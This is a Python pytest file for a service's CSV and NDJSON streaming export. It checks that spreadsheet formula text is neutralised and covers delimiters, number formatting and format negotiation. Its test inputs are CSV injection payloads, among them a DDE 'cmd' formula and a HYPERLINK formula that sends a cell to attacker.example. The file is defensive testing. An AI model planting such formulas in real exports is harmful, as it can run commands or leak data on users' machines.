"""Streams as bytes: CSV that spreadsheets read safely, NDJSON that says how it ends."""

import csv
import io
import json
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.usecases.documents import Document
from service.web.schemas.roster import COLUMNS
from service.web.streaming import (
    Column,
    CsvForm,
    LineType,
    chosen_format,
    csv_lines,
    estimate_columns,
    harmless,
    ndjson_lines,
)

pytestmark = pytest.mark.quick

NAME = Column("name", ("name",), "A name.", text=True)
GAP = estimate_columns("gap", "A gap.")
#: What CSV injection is tried with, after the OWASP page on it (CSV Injection): formulas, commands, tabs, line ends.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example?leak="&A1,"open")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(1)",
)


def rows(*names: str, gap: float = -0.12) -> Iterator[tuple[LineType, Document]]:
    for name in names:
        yield (
            "row",
            {"name": name, "gap": {"value": gap, "interval": {"lower": -1.5, "upper": 0.5, "mass": 0.8}}},
        )
    yield "end", {"count": len(names)}


def written(lines: Iterator[tuple[LineType, Document]], form: CsvForm | None = None) -> str:
    return b"".join(csv_lines(lines, (NAME, *GAP), form or CsvForm())).decode()


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_a_spreadsheet_could_run_begins_with_an_apostrophe(formula: str) -> None:
    assert read(written(rows(formula)))[1][0] == f"'{formula}"


@given(st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\0"), max_size=40))
def test_any_text_comes_back_and_never_begins_a_formula(text: str) -> None:
    found = read(written(rows(text)))
    assert len(found) == 2
    assert found[1][0] in {text, f"'{text}"}
    assert not found[1][0].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_below_zero_stay_numbers() -> None:
    assert read(written(rows("someone")))[1] == ["someone", "-0.12", "-1.5", "0.5", "0.8"]


def test_records_end_in_crlf_and_the_end_has_none() -> None:
    text = written(rows("a", "b"))
    assert text.count("\r\n") == 3
    assert text.replace("\r\n", "").count("\n") == 0
    assert text.startswith("name,gap,gap_lower,gap_upper,gap_mass\r\n")


def test_semicolons_and_decimal_commas_can_be_read_back() -> None:
    text = written(rows("a;b"), CsvForm(";", ",", bom=True))
    assert text.startswith("\ufeffname;")
    assert read(text, ";")[1] == ["a;b", "-0,12", "-1,5", "0,5", "0,8"]


def test_decimal_commas_between_commas_are_quoted() -> None:
    assert read(written(rows("a"), CsvForm(",", ",")))[1][1] == "-0,12"


@pytest.mark.parametrize(
    ("value", "text"), [(1e-9, "0"), (-1e-9, "0"), (12345678.5, "12345678.5"), (0.1 + 0.2, "0.3")]
)
def test_numbers_are_written_without_exponents(value: float, text: str) -> None:
    assert read(written(rows("a", gap=value)))[1][1] == text


def test_what_is_missing_is_an_empty_field() -> None:
    lines: list[tuple[LineType, Document]] = [("problem", {"name": None})]
    assert read(written(iter(lines)))[1] == ["", "", "", "", ""]


def test_ndjson_is_one_object_a_line_that_ends_with_its_count() -> None:
    lines = [json.loads(line) for line in b"".join(ndjson_lines(rows("a\nb", "c"))).splitlines()]
    assert [line["type"] for line in lines] == ["row", "row", "end"]
    assert lines[-1]["count"] == 2


@pytest.mark.parametrize(
    ("asked", "accept", "format"),
    [
        (None, None, "ndjson"),
        (None, "*/*", "ndjson"),
        (None, "text/csv", "csv"),
        (None, "application/x-ndjson;q=0.9, text/csv", "ndjson"),
        ("csv", "application/x-ndjson", "csv"),
        ("ndjson", "text/csv", "ndjson"),
    ],
)
def test_the_format_asked_for_beats_the_accept_header(
    asked: str | None, accept: str | None, format: str
) -> None:
    assert chosen_format(asked, accept) == format  # type: ignore[arg-type]


def test_columns_are_named_once_and_free_text_is_marked_as_such() -> None:
    for columns in COLUMNS.values():
        names = [column.name for column in columns]
        assert len(set(names)) == len(names)
        assert {"athlete_id", "status", "caution", "model_version", "as_of"} <= set(names)
        assert {column.name for column in columns if column.text} >= {
            "external_ref",
            "display_name",
            "caution",
        }


def test_a_leading_space_does_not_hide_a_formula() -> None:
    assert harmless(" =1") == "' =1"
    assert harmless("a=1") == "a=1"
